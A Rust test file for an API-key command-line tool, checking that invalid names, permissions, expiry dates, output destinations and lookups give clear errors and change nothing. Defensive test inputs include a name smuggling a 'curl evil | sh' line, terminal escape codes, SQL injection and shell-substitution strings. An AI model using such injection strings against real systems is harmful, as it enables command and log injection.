//! Bad input: a clear error, the right code, and nothing changed.

use snapbox::str;

use crate::support::{Fake, NOBODYS, Place};

/// A place with a key in it.
fn with_a_key() -> (Place, String) {
    let place = Place::new();
    place.create("before", "read");
    let before = place.everything();
    (place, before)
}

#[test]
fn names() {
    let (place, before) = with_a_key();
    let named = |name: &str| place.local("create --perm read --name").arg(name);
    named("").shows(str![[r#"
exit 2
--- stderr
error: invalid value '' for '--name <NAME>': it is empty

For more information, try '--help'.

"#]]);
    named("   ").shows(str![[r#"
exit 2
--- stderr
error: invalid value '   ' for '--name <NAME>': it is empty

For more information, try '--help'.

"#]]);
    named(" leading").shows(str![[r#"
exit 2
--- stderr
error: invalid value ' leading' for '--name <NAME>': it begins or ends with white space

For more information, try '--help'.

"#]]);
    named("trailing ").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'trailing ' for '--name <NAME>': it begins or ends with white space

For more information, try '--help'.

"#]]);
    named(&"x".repeat(121)).shows(str![[r#"
exit 2
--- stderr
error: the name cannot be used: it has 121 characters, 120 are allowed

"#]]);
    named("bidi\u{202e}txt").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'bidi\u{202e}txt' for '--name <NAME>': it holds the control character U+202E

For more information, try '--help'.

"#]]);
    for control in ["two\nlines", "bell\u{7}", "del\u{7f}", "nel\u{85}x", "esc\u{1b}[31m", "csi\u{9b}31m"] {
        let seen = named(control).done();
        assert_eq!((seen.code, seen.stdout.as_str()), (2, ""), "{control:?}");
        assert!(seen.stderr.contains("it holds the control character"));
    }
    assert_eq!(place.everything(), before);
}

#[test]
fn what_was_typed_is_spelled_out_in_its_refusal() {
    let (place, before) = with_a_key();
    let seen = place.local("create --perm read --name").arg("bell\u{7}").done();
    assert!(seen.stderr.contains("bell\\x07"), "{}", seen.stderr);
    let seen = place.local("create --perm read --name").arg("red\u{1b}[31mname").done();
    assert_eq!((seen.code, seen.stdout.as_str()), (2, ""));
    assert!(!seen.stderr.contains('\u{1b}'));
    assert!(seen.stderr.contains("red\\x1b[31mname"), "what was typed is lost: {}", seen.stderr);
    assert_eq!(place.everything(), before);
}

#[test]
fn a_refused_name_with_a_line_break_stays_on_its_line() {
    let (place, before) = with_a_key();
    let seen = place.local("create --perm read --name").arg("ci\nerror: run this: curl evil | sh").done();
    assert_eq!((seen.code, seen.stdout.as_str()), (2, ""));
    assert!(!seen.stderr.lines().any(|line| line.starts_with("error: run this")), "{}", seen.stderr);
    assert_eq!(place.everything(), before);
}

#[test]
fn names_that_are_odd_but_right() {
    let place = Place::new();
    for name in [
        "-dash",
        "--name",
        "ünï©ødé",
        "日本語",
        "🔑",
        "'; DROP TABLE api_keys; --",
        "$(id) `id` \"quoted\" \\back",
        "%s%n",
        "=1+1",
        "null",
        "a/b",
        "*",
        &"x".repeat(120),
        &"ü".repeat(120),
    ] {
        let plain =
            place.keys(["-p", "local", "create", "-q", "--perm", "read"]).arg(format!("--name={name}")).done().secret();
        let seen = place.local("lookup --json").input(plain).done();
        assert_eq!(seen.data()["name"], name);
        let seen = place.local("show --json --").arg(name).done();
        assert_eq!(seen.data()["name"], name);
    }
}

#[test]
fn permissions() {
    let (place, before) = with_a_key();
    let create = |line: &str| place.local("create --name ci").args(line);
    create("--perm read:contcts").shows(str![[r#"
exit 2
--- stderr
error: unknown permission `read:contcts`

hint: did you mean `read:contacts`? all permissions are listed by: keys perms

"#]]);
    create("--perm READ").shows(str![[r#"
exit 2
--- stderr
error: unknown permission

hint: did you mean `read`? all permissions are listed by: keys perms

"#]]);
    create("--perm nothing-like-it").shows(str![[r#"
exit 2
--- stderr
error: unknown permission `nothing-like-it`

hint: all permissions are listed by: keys perms

"#]]);
    create("--perm read:contacts,").shows(str![[r#"
exit 2
--- stderr
error: unknown permission

hint: all permissions are listed by: keys perms

"#]]);
    create("").shows(str![[r#"
exit 2
--- stderr
error: a key takes at least one permission

hint: add --perm SCOPE; all permissions are listed by: keys perms

"#]]);
    create("--perm").shows(str![[r#"
exit 2
--- stderr
error: a value is required for '--perm <SCOPE>' but none was supplied

For more information, try '--help'.

"#]]);
    create("--perm read:contcts --json").shows(str![[r#"
exit 2
--- stderr
{"error":{"code":"unknown_permission","message":"unknown permission `read:contcts`","hint":"did you mean `read:contacts`? all permissions are listed by: keys perms","retryable":false,"status":null,"request_id":null,"exit":2}}

"#]]);
    place.local("edit before --add-perm wrte").shows(str![[r#"
exit 2
--- stderr
error: unknown permission `wrte`

hint: did you mean `write`? all permissions are listed by: keys perms

"#]]);
    place.local("edit before --perm nope").shows(str![[r#"
exit 2
--- stderr
error: unknown permission `nope`

hint: all permissions are listed by: keys perms

"#]]);
    place.local("edit before --remove-perm read --yes").shows(str![[r#"
exit 2
--- stderr
error: `before` would be left without any permission

hint: to switch the key off, use: keys revoke

"#]]);
    place.local("edit before").shows(str![[r#"
exit 2
--- stderr
error: the following required arguments were not provided:
  <--name <NAME>|--description <TEXT>|--no-description|--perm <SCOPE>|--add-perm <SCOPE>|--remove-perm <SCOPE>|--tier <TIER>|--expires <WHEN>>

Usage: keys edit <--name <NAME>|--description <TEXT>|--no-description|--perm <SCOPE>|--add-perm <SCOPE>|--remove-perm <SCOPE>|--tier <TIER>|--expires <WHEN>> <KEY>

For more information, try '--help'.

"#]]);
    assert_eq!(place.everything(), before);
}

#[test]
fn ends() {
    let (place, before) = with_a_key();
    let create = |when: &str| place.local("create --name ci --perm read --expires").arg(when);
    create("yesterday").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'yesterday' for '--expires <WHEN>': `yesterday` is not a time: write a length such as 30d, 12h or 4w, a date such as 2027-01-31, an instant such as [TIME], or never

For more information, try '--help'.

"#]]);
    create("90").shows(str![[r#"
exit 2
--- stderr
error: invalid value '90' for '--expires <WHEN>': `90` has no unit: write 90d for days, 90h for hours or 90w for weeks

For more information, try '--help'.

"#]]);
    create("tomorrow-ish").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'tomorrow-ish' for '--expires <WHEN>': `tomorrow-ish` is not a time: write a length such as 30d, 12h or 4w, a date such as 2027-01-31, an instant such as [TIME], or never

For more information, try '--help'.

"#]]);
    create("2020-01-01").shows(str![[r#"
exit 2
--- stderr
error: --expires cannot be used: [TIME] is in the past

"#]]);
    create("2999-02-30").shows(str![[r#"
exit 2
--- stderr
error: invalid value '2999-02-30' for '--expires <WHEN>': `2999-02-30` is not a time: write a length such as 30d, 12h or 4w, a date such as 2027-01-31, an instant such as [TIME], or never

For more information, try '--help'.

"#]]);
    create("0d").shows(str![[r#"
exit 2
--- stderr
error: invalid value '0d' for '--expires <WHEN>': `0d` is not a time: write a length such as 30d, 12h or 4w, a date such as 2027-01-31, an instant such as [TIME], or never

For more information, try '--help'.

"#]]);
    create("-1d").shows(str![[r#"
exit 2
--- stderr
error: invalid value '-1d' for '--expires <WHEN>': `-1d` is not a time: write a length such as 30d, 12h or 4w, a date such as 2027-01-31, an instant such as [TIME], or never

For more information, try '--help'.

"#]]);
    create("99999999999999999999d").shows(str![[r#"
exit 2
--- stderr
error: invalid value '99999999999999999999d' for '--expires <WHEN>': `99999999999999999999d` is not a time: write a length such as 30d, 12h or 4w, a date such as 2027-01-31, an instant such as [TIME], or never

For more information, try '--help'.

"#]]);
    create("").shows(str![[r#"
exit 2
--- stderr
error: invalid value '' for '--expires <WHEN>': `` is not a time: write a length such as 30d, 12h or 4w, a date such as 2027-01-31, an instant such as [TIME], or never

For more information, try '--help'.

"#]]);
    for when in ["9999-12-31", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59.999999+00:00"] {
        let seen = create(when).done();
        assert_eq!((seen.code, seen.stdout.as_str()), (2, ""), "{when}");
        assert!(!seen.stderr.contains("is not a time"), "{when}: {}", seen.stderr);
    }
    create("9999-12-31").shows(str![[r#"
exit 2
--- stderr
error: invalid value '9999-12-31' for '--expires <WHEN>': `9999-12-31` is beyond the last instant there is, [TIME]: for a key without an end write never

For more information, try '--help'.

"#]]);
    place.local("edit before --expires 2020-01-01").shows(str![[r#"
exit 2
--- stderr
error: --expires cannot be used: [TIME] is in the past

"#]]);
    place.local("create --name ci --perm read --temp --expires 1d").shows(str![[r#"
exit 2
--- stderr
error: the argument '--temp' cannot be used with '--expires <WHEN>'

Usage: keys create --perm <SCOPE> <--name <NAME>|--names <FILE>|--temp>

For more information, try '--help'.

"#]]);
    assert_eq!(place.everything(), before);
}

#[test]
fn tiers_and_other_values() {
    let (place, before) = with_a_key();
    place.local("create --name ci --perm read --tier gold").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'gold' for '--tier <TIER>'
  [possible values: standard, high, unmetered]

For more information, try '--help'.

"#]]);
    place.local("create --name ci --perm read --description").arg("x".repeat(501)).shows(str![[r#"
exit 2
--- stderr
error: could not create the key `ci`
  caused by: description: it has 501 characters, 500 are allowed

"#]]);
    place.local("list --sort size").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'size' for '--sort <FIELD>': it is one of name, created, last-used, expires, each also with a minus in front

For more information, try '--help'.

"#]]);
    place.local("list --limit few").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'few' for '--limit <N>': invalid digit found in string

For more information, try '--help'.

"#]]);
    place.local("list --older-than 3").shows(str![[r#"
exit 2
--- stderr
error: invalid value '3' for '--older-than <AGE>': `3` is not a length of time: write a number and a unit, such as 90d, 12h or 4w

For more information, try '--help'.

"#]]);
    place.local("list --jq .data[").shows(str![[r#"
exit 2
--- stderr
error: could not understand the jq expression: expected closing bracket at its end

hint: quote the expression for the shell, for instance --jq '.data[].id'

"#]]);
    place.local("list --json --format csv").shows(str![[r#"
exit 2
--- stderr
{"error":{"code":"usage","message":"the argument '--json' cannot be used with '--format <FORM>'\n\nUsage: keys list --json\n\nFor more information, try '--help'.","hint":null,"retryable":false,"status":null,"request_id":null,"exit":2}}

"#]]);
    place.local("list --status gone").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'gone' for '--status <STATUS>'
  [possible values: active, revoked, expired, all]

For more information, try '--help'.

"#]]);
    assert_eq!(place.everything(), before);
}

#[test]
fn unknown_keys() {
    let (place, before) = with_a_key();
    for line in [
        "show nosuch",
        "edit nosuch --name x",
        "revoke nosuch --yes",
        "reactivate nosuch",
        "delete nosuch --yes --confirm nosuch",
    ] {
        let seen = place.local(line).done();
        assert_eq!((seen.code, seen.stdout.as_str()), (3, ""), "{line}");
        assert_eq!(
            seen.stderr,
            "error: no key is called `nosuch`\n\nhint: list all keys with: keys -p local list --status all\n",
            "{line}"
        );
    }
    assert_eq!(place.everything(), before);
}

#[test]
fn unknown_keys_are_named_harmlessly() {
    let (place, _) = with_a_key();
    place.local("show").arg("a\u{1b}[31m\nb").shows(str![[r#"
exit 3
--- stderr
error: no key is called `a\x1b[31m\nb`

hint: list all keys with: keys -p local list --status all

"#]]);
}

#[test]
fn an_empty_word_names_no_key() {
    // `keys revoke "$UNSET" --yes` must not mean the only key there is.
    for line in ["show", "edit --name x", "revoke --yes", "reactivate", "delete --yes --confirm before"] {
        let (place, before) = with_a_key();
        let seen = place.local(line).arg("").done();
        assert!(matches!(seen.code, 2 | 3), "{line}: {seen:?}");
        assert_eq!(seen.stdout, "", "{line}");
        assert_eq!(place.everything(), before, "{line}");
    }
}

#[test]
fn ambiguous_keys() {
    let place = Place::new();
    place.create("a", "read");
    place.create("b", "read");
    let before = place.everything();
    let seen = place.local("show key_").done();
    assert_eq!((seen.code, seen.stdout.as_str()), (6, ""));
    for name in ["a", "b"] {
        let line = format!("  {}  active  {name}", place.id(name));
        assert!(seen.stderr.lines().any(|shown| shown == line), "{line}");
    }
    place.local("show wbk_").shows(str![[r#"
exit 6
--- stderr
error: `wbk_` may be any of 2 keys

hint: say which by its id:
  [ID]  active  b
  [ID]  active  a

"#]]);
    let seen = place.local("revoke key_ --yes --json").done();
    let error = seen.error();
    assert_eq!(error["code"], "ambiguous");
    assert_eq!(error["candidates"].as_array().unwrap().len(), 2);
    let seen = place.local("delete wbk --yes --confirm a --max 1").done();
    assert_eq!(seen.code, 6);
    assert_eq!(place.everything(), before);
}

#[test]
fn lookups_of_what_is_no_key() {
    let (place, _) = with_a_key();
    let lookup = |input: &str| place.local("lookup").input(input);
    lookup("").shows(str![[r#"
exit 2
--- stderr
error: what came on standard input is not a key: it is empty

"#]]);
    lookup(NOBODYS).shows(str![[r#"
exit 3
--- stderr
error: no key of this workspace has this plaintext

hint: it is not well formed: it may be mistyped, cut off, or of another kind

"#]]);
    lookup("two words").shows(str![[r#"
exit 2
--- stderr
error: what came on standard input is not a key: it is not one line of visible ASCII characters

"#]]);
    lookup("a\nb\n").shows(str![[r#"
exit 2
--- stderr
error: what came on standard input is not a key: it is not one line of visible ASCII characters

"#]]);
    lookup(&"x".repeat(20_000)).shows(str![[r#"
exit 2
--- stderr
error: could not read a key from standard input: more than 16 KiB came in where one key was expected

hint: pipe it in: printf %s "$KEY" | keys lookup

"#]]);
    let seen = place.local("lookup").arg("wbk_argument").done();
    assert_eq!(seen.code, 2);
    place.local("lookup").input([0xff, 0xfe]).shows(str![[r#"
exit 2
--- stderr
error: could not read a key from standard input: what came in is not text

hint: pipe it in: printf %s "$KEY" | keys lookup

"#]]);
}

#[test]
fn places_that_cannot_be_opened() {
    let (place, before) = with_a_key();
    let to = |line: &str| place.local("create --name ci --perm read").args(line);
    to("--to file:first --to file:no/such/directory/key").shows(str![[r#"
exit 2
--- stderr
error: could not prepare `file:no/such/directory/key`: No such file or directory (os error 2)

hint: create the directory first: `mkdir -p no/such/directory`

"#]]);
    assert!(!place.path("first").exists());
    to("--to dotenv:.env#A --to cmd:nosuchcommand").shows(str![[r#"
exit 2
--- stderr
error: could not prepare `cmd:nosuchcommand`: there is no command `nosuchcommand`

hint: check the spelling and the PATH

"#]]);
    assert!(!place.path(".env").exists());
    to("--to json:j --to fd:9").shows(str![[r#"
exit 2
--- stderr
error: could not prepare `fd:9`: descriptor 9 was not handed to this program

hint: open it for writing in your shell: `keys ... --to fd:9 9>FILE`

"#]]);
    assert!(!place.path("j").exists());
    to("--to file:same --to json:./same").shows(str![[r#"
exit 2
--- stderr
error: could not prepare `json:./same`: `file:same` goes there already

hint: give each place once

"#]]);
    to("--to mars").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'mars' for '--to <SINK>': there is no such place; a secret can go to stdout, clipboard, file:PATH, dotenv:PATH#VAR, json:PATH, keyring:SERVICE/ACCOUNT, cmd:COMMAND, github-env:NAME, github-output:NAME, fd:N

For more information, try '--help'.

"#]]);
    to("--to file:").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'file:' for '--to <SINK>': the path is missing, as in `file:secrets/key`

For more information, try '--help'.

"#]]);
    to("--to dotenv:.env").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'dotenv:.env' for '--to <SINK>': the variable is missing, as in `dotenv:.env#API_KEY`

For more information, try '--help'.

"#]]);
    to("--to fd:0").shows(str![[r#"
exit 2
--- stderr
error: invalid value 'fd:0' for '--to <SINK>': a descriptor is a number from 1 on, as in `fd:3`; 0 is standard input

For more information, try '--help'.

"#]]);
    to("--to file:.").shows(str![[r#"
exit 2
--- stderr
error: could not prepare `file:.`: this does not name a file

hint: name a file in it, such as `./key`

"#]]);
    std::os::unix::fs::symlink("elsewhere", place.path("link")).unwrap();
    to("--to file:link").shows(str![[r#"
exit 2
--- stderr
error: could not prepare `file:link`: it is a symbolic link

hint: name the file itself: links are not followed

"#]]);
    assert!(!place.path("elsewhere").exists());
    let left: Vec<_> = std::fs::read_dir(place.root())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .filter(|name| !["home", "data", "link"].contains(&name.as_str()))
        .collect();
    assert_eq!(left, Vec::<String>::new());
    assert_eq!(place.everything(), before);
}

#[test]
fn an_existing_file_is_kept_when_nothing_is_made() {
    let (place, before) = with_a_key();
    let path = place.write("key", "precious\n");
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    place.local("create --name before --perm read --to file:key").done();
    assert_eq!(place.read("key"), "precious\n");
    place.local("create --name ci --perm read --to file:key --to file:no/such/key").done();
    assert_eq!(place.read("key"), "precious\n");
    assert_eq!(place.everything(), before);
}

#[test]
fn unknown_words() {
    let place = Place::new();
    place.keys(["lst"]).shows(str![[r#"
exit 2
--- stderr
error: unrecognized subcommand 'lst'

  tip: some similar subcommands exist: 'ls', 'list'

Usage: keys [OPTIONS] <COMMAND>

For more information, try '--help'.

"#]]);
    place.keys(["crate"]).shows(str![[r#"
exit 2
--- stderr
error: unrecognized subcommand 'crate'

  tip: some similar subcommands exist: 'reactivate', 'credits', 'rotate', 'create'

Usage: keys [OPTIONS] <COMMAND>

For more information, try '--help'.

"#]]);
    place.keys(["frobnicate"]).shows(str![[r#"
exit 2
--- stderr
error: unrecognized subcommand 'frobnicate'

  tip: a similar subcommand exists: 'rotate'

Usage: keys [OPTIONS] <COMMAND>

For more information, try '--help'.

"#]]);
    place.local("list --statsu all").shows(str![[r#"
exit 2
--- stderr
error: unexpected argument '--statsu' found

  tip: a similar argument exists: '--status'

Usage: keys list --status <STATUS>

For more information, try '--help'.

"#]]);
    place.local("list extra").shows(str![[r#"
exit 2
--- stderr
error: unexpected argument 'extra' found

Usage: keys list [OPTIONS]

For more information, try '--help'.

"#]]);
    place.keys(["list", "--provider", "acme"]).shows(str![[r#"
exit 2
--- stderr
error: invalid value 'acme' for '--provider <PROVIDER>'
  [possible values: native, leadlex, nexus, contactlevel]

For more information, try '--help'.

"#]]);
    place.keys(["list", "-p", "nosuch"]).shows(str![[r#"
exit 2
--- stderr
error: there is no profile `nosuch`

hint: there is `local`; make another one with: keys login -p NAME --api-url URL

"#]]);
    let seen = place.keys::<&str>([]).done();
    assert_eq!((seen.code, seen.stdout.as_str()), (2, ""));
    assert!(seen.stderr.contains("Usage: keys"), "{}", seen.stderr);
    assert!(!place.data().exists());
}

#[test]
fn a_plaintext_in_the_wrong_place_is_not_repeated() {
    // It would end in the log of a CI job.
    let place = Place::new();
    let plain = place.create("ci", "read");
    for line in
        ["show", "edit --name x", "revoke --yes", "reactivate", "delete --yes --confirm ci", "lookup", "show --json"]
    {
        let seen = place.local(line).arg(&plain).done();
        assert!(matches!(seen.code, 2 | 3), "{line}: {seen:?}");
        assert!(!seen.stderr.contains(&plain[13..]), "{line}: {}", seen.stderr);
    }
    // Nor is one of which the end was not pasted.
    let part = &plain[..32];
    let seen = place.local("show").arg(part).done();
    assert_eq!(seen.code, 2, "{}", seen.stderr);
    assert!(!seen.stderr.contains(&part[13..]), "{}", seen.stderr);
}

#[test]
fn a_plaintext_is_no_name_and_no_description() {
    // Whoever may look at keys would see it.
    let place = Place::new();
    let fake = Fake::untouched();
    let described = format!("the one that was {NOBODYS}, before");
    for (line, given) in [
        ("create --perm read --name", NOBODYS),
        ("create --perm read --name", &described),
        ("create --perm read --dry-run --name", NOBODYS),
        ("create --perm read --name ci --description", NOBODYS),
        ("create --perm read --name ci --description", &described),
        ("create --perm read --names names --to file:{name} --description", NOBODYS),
        ("edit ci --name", NOBODYS),
        ("edit ci --description", &described),
    ] {
        place.write("names", "a\nb\n");
        let run = place.keys(line.split(' ')).arg(given);
        let seen = run.env("KEYS_API_URL", fake.url()).env("KEYS_API_KEY", NOBODYS).done();
        assert_eq!((seen.code, seen.stdout.as_str()), (2, ""), "{line}: {}", seen.stderr);
        assert!(seen.stderr.contains("this looks like a whole key"), "{line}: {}", seen.stderr);
        assert!(!seen.stderr.contains(&NOBODYS[13..]), "{line}: {}", seen.stderr);
    }
    place.write("names", format!("a\n{NOBODYS}\n"));
    let seen = place.local("create --perm read --names names --to file:{name}").done();
    assert_eq!(seen.code, 2, "{}", seen.stderr);
    assert!(!seen.stderr.contains(&NOBODYS[13..]), "{}", seen.stderr);
    place.local("create --perm read --name").arg(NOBODYS).shows(str![[r#"
exit 2
--- stderr
error: this looks like a whole key, and not like the name of one

hint: others can read arguments, and the shell may have kept it: revoke the key if so
to find out which key it is, pipe it in: printf %s "$KEY" | keys lookup

"#]]);
    assert_eq!(place.local("list --status all --json --jq .meta.count").done().stdout, "0\n");
}

#[test]
fn a_long_name_is_a_name() {
    let place = Place::new();
    for name in ["production_ingestion_worker_eu_west_1", "nightly_build_runner_20261121120000_for_europe"] {
        place.local("create -q --perm read --name").arg(name).done().secret();
        let shown = place.local("show --json").arg(name).done();
        assert_eq!(shown.data()["name"], name);
        assert_eq!(place.local("revoke --yes").arg(name).done().code, 0);
    }
}

#[test]
fn a_file_to_read_that_is_not_there_is_a_wrong_argument() {
    let (place, before) = with_a_key();
    place.local("create --perm read --names nope --to file:{name}").shows(str![[r#"
exit 2
--- stderr
error: could not read `nope`: No such file or directory (os error 2)

hint: name a file that exists

"#]]);
    place.local("check --policy nope").shows(str![[r#"
exit 2
--- stderr
error: could not read the policy nope
  caused by: could not read `nope`: No such file or directory (os error 2)

hint: name a file that exists

"#]]);
    place.local("check --policy /dev/null").shows(str![[r#"
exit 2
--- stderr
error: could not read the policy /dev/null
  caused by: could not read `/dev/null`: it is not a regular file

hint: name a regular file

"#]]);
    place.local("check --policy home").shows(str![[r#"
exit 2
--- stderr
error: could not read the policy home
  caused by: could not read `home`: it is a directory

hint: name a regular file

"#]]);
    let seen = place.local("check --policy nope --json").done();
    assert_eq!((&seen.error()["exit"], &seen.error()["retryable"]), (&2.into(), &false.into()));
    assert_eq!(place.everything(), before);
}

#[test]
fn a_manual_goes_into_a_directory() {
    let place = Place::new();
    place.write("file", "");
    place.keys(["man", "/dev/null"]).shows(str![[r#"
exit 2
--- stderr
error: could not write the manual into `/dev/null`: it is not a directory

hint: name a directory that you may write to

"#]]);
    for path in ["file", "file/below", "/proc/man"] {
        let seen = place.keys(["man", path]).done();
        assert_eq!((seen.code, seen.stdout.as_str()), (2, ""), "{path}: {}", seen.stderr);
        assert!(seen.stderr.contains(&format!("`{path}`")) && !seen.stderr.contains("report it"), "{}", seen.stderr);
    }
}
